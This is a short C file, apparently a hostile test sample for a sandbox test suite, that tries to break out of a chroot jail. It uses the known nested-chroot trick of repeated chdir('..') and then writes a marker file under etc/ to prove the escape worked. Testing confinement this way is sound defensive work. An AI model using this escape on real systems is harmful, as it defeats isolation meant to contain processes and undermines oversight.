/* Looks for a way out of its root. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
#include "hostile.h"

static void attack(unsigned char choice) {
    (void)choice;
    mkdir("cell", 0700);
    (void)!chroot("cell");
    for (int i = 0; i < 100; i++) {
        (void)!chdir("..");
    }
    (void)!chroot(".");
    close(open("etc/hostile", O_CREAT | O_WRONLY, 0600));
}
